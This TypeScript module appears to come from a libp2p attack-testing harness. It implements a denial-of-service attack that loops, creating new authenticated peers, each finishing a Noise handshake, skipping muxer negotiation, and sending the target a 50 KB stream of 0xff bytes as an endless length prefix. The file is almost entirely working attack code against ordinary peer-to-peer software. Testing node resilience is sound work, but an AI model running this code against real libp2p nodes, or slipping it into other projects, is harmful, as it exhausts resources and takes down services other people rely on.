/** Ever new peers that prove who they are, agree on no muxer, and name one by a word whose length does not end. */
import { noise } from '@chainsafe/libp2p-noise'
import { tcp } from '@libp2p/tcp'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import type { MessageStream } from '@libp2p/interface'
import { again, attacking, many, ownAddress, pause, type Behaviour } from '../attack/target.js'
import { from } from '../attack/wire.js'

const ENDLESS = new Uint8Array(50 * 1024).fill(0xff)

export const attack: Behaviour = async (target, signal) => many(4, async () => again(signal, async () => {
  const secured = Promise.withResolvers<MessageStream>()
  const host = await createLibp2p({
    transports: [tcp(from(ownAddress()))],
    connectionEncrypters: [(components) => {
      const inner = noise()(components)
      const secureOutbound: typeof inner.secureOutbound = async (connection, options) => {
        const made = await inner.secureOutbound(connection, { ...options, skipStreamMuxerNegotiation: true })
        secured.resolve(made.connection)
        return made
      }
      return { protocol: inner.protocol, secureInbound: inner.secureInbound.bind(inner), secureOutbound }
    }],
    connectionManager: { reconnectRetries: 0 },
    connectionMonitor: { enabled: false }
  })
  try {
    // without a muxer it dials in vain, but has proved who it is by then
    void host.dial(multiaddr(target.address), { signal }).catch(secured.reject)
    const stream = await secured.promise
    attacking()
    stream.send(ENDLESS)
    await pause(200, signal)
  } finally {
    // a connection without a muxer is not closed by its host
    secured.promise.then((stream) => { stream.abort(new Error('again')) }, () => {})
    await host.stop()
  }
}))
